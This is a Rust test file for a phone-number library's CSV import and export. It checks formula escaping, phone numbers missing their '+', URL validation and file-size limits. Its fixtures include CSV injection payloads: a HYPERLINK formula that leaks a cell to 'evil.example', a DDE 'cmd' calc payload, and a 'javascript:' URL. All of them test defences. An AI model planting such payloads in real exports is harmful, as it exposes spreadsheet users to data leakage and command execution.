//! CSV files as managers and spreadsheets make them: export → import is lossless whatever the
//! names and metadata hold, formula-like cells are neutralized on the way out, numbers a
//! spreadsheet saved without their `+` come back (or are refused with the row and what to do),
//! and oversized files are refused before they are read whole.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use proptest::prelude::*;
use switchboard_core::domain::{NewNumber, NumberUpdate, PhoneNumber};
use switchboard_core::query::NumberFilter;
use switchboard_core::store::{NumberRef, Workspace};
use switchboard_core::transfer::{
    self, Format, ImportLimits, ImportOptions, escape_cell, unescape_cell,
};
use switchboard_core::{Error, ErrorCode};
use uuid::Uuid;

fn numbers(ws: &Workspace, org: Uuid) -> Vec<PhoneNumber> {
    let mut out = Vec::new();
    ws.for_each_number(org, |n| {
        out.push(n.clone());
        Ok(())
    })
    .unwrap();
    out
}

fn export_csv(ws: &Workspace, org: Uuid) -> String {
    let mut csv = Vec::new();
    transfer::export(ws, org, Format::Csv, &mut csv).unwrap();
    String::from_utf8(csv).unwrap()
}

fn bad_rows(e: Error) -> Vec<(u64, String)> {
    match e {
        Error::BadRows(rows) => rows.into_iter().map(|r| (r.line, r.message)).collect(),
        other => panic!("expected bad rows, got {other}"),
    }
}

/// A number to add: number, friendly name, metadata JSON, webhook URL.
type Row = (String, Option<String>, Option<String>, Option<String>);

/// A workspace with one organization holding `rows`.
fn workspace_with(rows: &[Row]) -> (Workspace, Uuid) {
    let mut ws = Workspace::open_in_memory().unwrap();
    let org = ws.add_organization("src", "Src").unwrap();
    for (number, name, metadata, url) in rows {
        let v = NewNumber {
            provider: "twilio".into(),
            number: number.clone(),
            friendly_name: name.clone(),
            metadata: metadata.clone(),
            ..Default::default()
        }
        .validate()
        .unwrap();
        let n = ws.add_number(org.id, v).unwrap();
        if url.is_some() {
            ws.update_number(
                &NumberRef::Id(n.id),
                Some(org.id),
                &NumberUpdate {
                    webhook: Some((true, url.clone())),
                    ..NumberUpdate::default()
                },
            )
            .unwrap();
        }
    }
    (ws, org.id)
}

/// Imports `csv` into a fresh organization and returns its numbers with the source's
/// organization id, for comparison.
fn import_fresh(csv: &str, opts: &ImportOptions, as_org: Uuid) -> Result<Vec<PhoneNumber>, Error> {
    let mut other = Workspace::open_in_memory().unwrap();
    let dst = other.add_organization("dst", "Dst").unwrap();
    transfer::import_csv(&mut other, dst.id, csv.as_bytes(), opts)?;
    Ok(numbers(&other, dst.id)
        .into_iter()
        .map(|n| PhoneNumber {
            organization_id: as_org,
            ..n
        })
        .collect())
}

#[test]
fn formula_cells_are_neutralized_and_read_back_exactly() {
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Support")"#;
    let rows = vec![
        (
            "+14155550100".to_owned(),
            Some(hyperlink.to_owned()),
            Some(r#"{"note":"=1+1"}"#.to_owned()),
            Some("https://hooks.example.com/v?x=1".to_owned()),
        ),
        (
            "+14155550101".to_owned(),
            Some("@SUM(A1:A2)".to_owned()),
            None,
            None,
        ),
        (
            "+14155550102".to_owned(),
            Some("-2+3".to_owned()),
            None,
            None,
        ),
        (
            "+14155550103".to_owned(),
            Some("+cmd|' /C calc'!A0".to_owned()),
            None,
            None,
        ),
        (
            "+14155550104".to_owned(),
            Some("'quoted'".to_owned()),
            None,
            None,
        ),
        (
            "+14155550105".to_owned(),
            Some("Sales – East".to_owned()),
            None,
            None,
        ),
    ];
    let (ws, org) = workspace_with(&rows);
    let csv = export_csv(&ws, org);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap().get(4).unwrap().to_owned())
        .collect();
    assert_eq!(
        names,
        [
            format!("'{hyperlink}"),
            "'@SUM(A1:A2)".to_owned(),
            "'-2+3".to_owned(),
            "'+cmd|' /C calc'!A0".to_owned(),
            "''quoted'".to_owned(),
            "Sales – East".to_owned(),
        ]
    );
    // No cell of the file starts with a formula character, but the phone numbers' `+`.
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for (i, cell) in record.iter().enumerate() {
            if i != 3 {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
            }
        }
    }
    let back = import_fresh(&csv, &ImportOptions::default(), org).unwrap();
    assert_eq!(back, numbers(&ws, org));
}

#[test]
fn a_hand_made_file_keeps_a_leading_quote_that_escapes_nothing() {
    let csv = "phone_number,provider,friendly_name\n+14155550100,twilio,'quoted'\n\
               +14155550101,twilio,'=1+1\n";
    let back = import_fresh(csv, &ImportOptions::default(), Uuid::nil()).unwrap();
    let names: Vec<_> = back
        .iter()
        .map(|n| n.friendly_name.clone().unwrap())
        .collect();
    assert_eq!(names, ["'quoted'", "=1+1"]);
}

#[test]
fn numbers_a_spreadsheet_saved_without_their_plus_are_read() {
    let rows: Vec<_> = [
        "+14155550100",
        "+442079460958",
        "+33142685300",
        "+819012345678",
    ]
    .iter()
    .map(|n| ((*n).to_owned(), Some("Main".to_owned()), None, None))
    .collect();
    let (ws, org) = workspace_with(&rows);
    let csv = export_csv(&ws, org);
    // What a spreadsheet writes when the column was not text: the `+` is gone.
    let saved = csv.replace(",+", ",");
    assert!(!saved.contains(",+"), "{saved}");
    let back = import_fresh(&saved, &ImportOptions::default(), org).unwrap();
    assert_eq!(back, numbers(&ws, org));
    // With a default region too: a national reading that is not valid does not get in the way.
    let opts = ImportOptions {
        default_region: Some("US".into()),
        ..ImportOptions::default()
    };
    let back = import_fresh(&saved, &opts, org).unwrap();
    assert_eq!(back, numbers(&ws, org));
}

#[test]
fn scientific_notation_is_refused_with_its_line_and_what_to_do() {
    let csv = "phone_number,provider\n+14155550100,twilio\n1.4155550101E+10,twilio\n\
               4.42079E+11,twilio\n";
    let rows = bad_rows(import_fresh(csv, &ImportOptions::default(), Uuid::nil()).unwrap_err());
    assert_eq!(rows.iter().map(|r| r.0).collect::<Vec<_>>(), [3, 4]);
    for (_, message) in &rows {
        assert!(message.contains("scientific notation"), "{message}");
        assert!(
            message.contains("format the phone_number column as text"),
            "{message}"
        );
    }
}

/// A US national number (10 digits) that is also a valid international number once a `+` is put
/// in front: the two readings of the digits differ.
fn ambiguous_us_number() -> (String, String, String) {
    for area in 201..=989u32 {
        let digits = format!("{area}5550123");
        let national = switchboard_core::domain::E164::parse(&digits, Some("US"));
        let international = switchboard_core::domain::E164::parse(&format!("+{digits}"), None);
        if let (Ok(n), Ok(i)) = (national, international)
            && n != i
        {
            return (digits, n.to_string(), i.to_string());
        }
    }
    panic!("no ambiguous digits found");
}

#[test]
fn digits_that_read_two_ways_are_refused_not_guessed() {
    let (digits, national, international) = ambiguous_us_number();
    let opts = ImportOptions {
        default_region: Some("US".into()),
        ..ImportOptions::default()
    };
    let csv = format!("phone_number,provider\n{digits},twilio\n");
    let e = import_fresh(&csv, &opts, Uuid::nil()).unwrap_err();
    assert_eq!(e.code(), ErrorCode::InvalidInput);
    let rows = bad_rows(e);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].0, 2);
    for says in [
        national.as_str(),
        international.as_str(),
        "reads two ways",
        "with its +",
    ] {
        assert!(rows[0].1.contains(says), "{}", rows[0].1);
    }
    // Written with their +, both readings import as written.
    for written in [national.clone(), international.clone()] {
        let csv = format!("phone_number,provider\n{written},twilio\n");
        let back = import_fresh(&csv, &opts, Uuid::nil()).unwrap();
        assert_eq!(back[0].phone_number.as_str(), written);
    }
    // Without a region, the digits have one reading: the international number.
    let back = import_fresh(&csv, &ImportOptions::default(), Uuid::nil()).unwrap();
    assert_eq!(back[0].phone_number.as_str(), international);
    // Digits that are valid only as a national number of the region stay national.
    let csv = "phone_number,provider\n4155550100,twilio\n";
    let back = import_fresh(csv, &opts, Uuid::nil()).unwrap();
    assert_eq!(back[0].phone_number.as_str(), "+14155550100");
    // Without a region, digits that are no valid international number say what to do.
    let rows = bad_rows(import_fresh(csv, &ImportOptions::default(), Uuid::nil()).unwrap_err());
    assert!(rows[0].1.contains("has no +"), "{}", rows[0].1);
    assert!(rows[0].1.contains("give a region"), "{}", rows[0].1);
}

#[test]
fn webhook_urls_must_be_http_urls() {
    let csv = "phone_number,provider,webhook_url\n+14155550100,twilio,https://ok.example/v\n\
               +14155550101,twilio,javascript:alert(1)\n\
               +14155550102,twilio,'=HYPERLINK(\"http://x\")\n";
    let rows = bad_rows(import_fresh(csv, &ImportOptions::default(), Uuid::nil()).unwrap_err());
    assert_eq!(rows.iter().map(|r| r.0).collect::<Vec<_>>(), [3, 4]);
    assert!(
        rows[0]
            .1
            .starts_with("invalid webhook_url: must be an http or https URL"),
        "{rows:?}"
    );
    assert!(
        rows[1].1.starts_with("invalid webhook_url: not a URL"),
        "{rows:?}"
    );
    let long = format!(
        "phone_number,provider,webhook_url\n+14155550100,twilio,https://x.example/{}\n",
        "a".repeat(2048)
    );
    let rows = bad_rows(import_fresh(&long, &ImportOptions::default(), Uuid::nil()).unwrap_err());
    assert!(rows[0].1.contains("at most 2048"), "{rows:?}");
}

#[test]
fn account_ids_in_an_import_have_their_providers_shape() {
    let csv = "phone_number,provider,credentials\n\
               +14155550100,telnyx,\"{\"\"connectionId\"\":\"\"KEY0188E6B1A2B3C4D5E6F7A8B9C0_abc\"\"}\"\n\
               +14155550101,plivo,\"{\"\"authId\"\":\"\"MA0123456789ABCDEFGH\"\"}\"\n";
    let rows = bad_rows(import_fresh(csv, &ImportOptions::default(), Uuid::nil()).unwrap_err());
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0].0, 2);
    assert!(
        rows[0].1.contains("looks like a Telnyx API key"),
        "{rows:?}"
    );
    assert!(
        !rows[0].1.contains("KEY0188"),
        "the value is not repeated: {rows:?}"
    );
}

#[test]
fn files_over_the_limits_are_refused_before_anything_is_written() {
    let mut csv = String::from("phone_number,provider\n");
    for i in 0..10 {
        csv.push_str(&format!("+1415555{:04},twilio\n", 100 + i));
    }
    let few_rows = ImportOptions {
        limits: ImportLimits {
            max_rows: 9,
            ..ImportLimits::default()
        },
        ..ImportOptions::default()
    };
    let e = import_fresh(&csv, &few_rows, Uuid::nil()).unwrap_err();
    assert_eq!(e.code(), ErrorCode::InvalidInput);
    assert_eq!(
        e.to_string(),
        "invalid import file: it has more than 9 rows; the limit is 9 rows per import — split \
         the file"
    );
    let ten = ImportOptions {
        limits: ImportLimits {
            max_rows: 10,
            ..ImportLimits::default()
        },
        ..ImportOptions::default()
    };
    assert_eq!(import_fresh(&csv, &ten, Uuid::nil()).unwrap().len(), 10);

    let few_bytes = ImportOptions {
        limits: ImportLimits {
            max_bytes: 100,
            ..ImportLimits::default()
        },
        ..ImportOptions::default()
    };
    let e = import_fresh(&csv, &few_bytes, Uuid::nil()).unwrap_err();
    assert_eq!(
        e.to_string(),
        "invalid import file: the file is larger than the limit of 1 MB — split the file"
    );
    let exact = ImportOptions {
        limits: ImportLimits {
            max_bytes: csv.len() as u64,
            ..ImportLimits::default()
        },
        ..ImportOptions::default()
    };
    assert_eq!(import_fresh(&csv, &exact, Uuid::nil()).unwrap().len(), 10);

    // A file is measured before it is read.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("import.csv");
    std::fs::write(&path, vec![b'x'; 2_500_001]).unwrap();
    let limits = ImportLimits {
        max_bytes: 2_000_000,
        ..ImportLimits::default()
    };
    let e = transfer::open_import_file(&path, &limits).unwrap_err();
    assert_eq!(
        e.to_string(),
        "invalid import file: import.csv is 3 MB; the limit is 2 MB — split the file"
    );
    std::fs::write(&path, &csv).unwrap();
    assert!(transfer::open_import_file(&path, &limits).is_ok());
    assert_eq!(
        ImportLimits::default(),
        ImportLimits {
            max_bytes: transfer::MAX_IMPORT_BYTES,
            max_rows: transfer::MAX_IMPORT_ROWS
        }
    );
}

#[test]
fn an_empty_organization_exports_a_header_and_an_empty_array() {
    let mut ws = Workspace::open_in_memory().unwrap();
    let org = ws.add_organization("empty", "Empty").unwrap();
    let csv = export_csv(&ws, org.id);
    assert_eq!(csv.lines().count(), 1);
    let mut json = Vec::new();
    assert_eq!(
        transfer::export(&ws, org.id, Format::Json, &mut json).unwrap(),
        0
    );
    assert_eq!(json, b"[]\n");
    assert_eq!(ws.count_numbers(&NumberFilter::org(org.id)).unwrap(), 0);
}

/// Text as a manager might type it in a name, a note or a URL path: anything printable, often
/// starting with what a spreadsheet would run or with the escape quote itself.
fn text() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec![
            "",
            "=",
            "+",
            "-",
            "@",
            "'",
            "''",
            "'=",
            "=HYPERLINK(",
            "-+",
        ]),
        "\\PC{0,40}",
    )
        .prop_map(|(start, rest)| format!("{start}{rest}"))
}

fn friendly_name() -> impl Strategy<Value = Option<String>> {
    text().prop_map(|s| {
        let s: String = s.trim().chars().take(100).collect();
        let s = s.trim().to_owned();
        (!s.is_empty()).then_some(s)
    })
}

fn url() -> impl Strategy<Value = Option<String>> {
    prop::option::of("[a-z0-9=+@'-]{0,20}")
        .prop_map(|p| p.map(|p| format!("https://x.example/{p}")))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn escaping_a_cell_is_reversed_exactly(cell in text()) {
        let escaped = escape_cell(&cell);
        prop_assert!(!escaped.starts_with(['=', '+', '-', '@', '\t', '\r']));
        prop_assert_eq!(unescape_cell(&escaped), cell.as_str());
    }

    #[test]
    fn export_then_import_is_lossless(
        rows in prop::collection::vec((friendly_name(), text(), url()), 1..5)
    ) {
        let rows: Vec<_> = rows
            .into_iter()
            .enumerate()
            .map(|(i, (name, note, url))| {
                let metadata = serde_json::json!({ "note": note, "providerSid": format!("PN{i}") });
                (format!("+1415555{:04}", 100 + i), name, Some(metadata.to_string()), url)
            })
            .collect();
        let (ws, org) = workspace_with(&rows);
        let before = numbers(&ws, org);
        let csv = export_csv(&ws, org);
        let after = import_fresh(&csv, &ImportOptions::default(), org).unwrap();
        prop_assert_eq!(&after, &before);
        // And the notes are exactly what was typed.
        for (n, (_, _, metadata, _)) in after.iter().zip(&rows) {
            let typed: serde_json::Value = serde_json::from_str(metadata.as_deref().unwrap()).unwrap();
            let stored: serde_json::Value = serde_json::from_str(&n.metadata.as_ref().unwrap().to_json()).unwrap();
            prop_assert_eq!(&stored["note"], &typed["note"]);
        }
    }
}
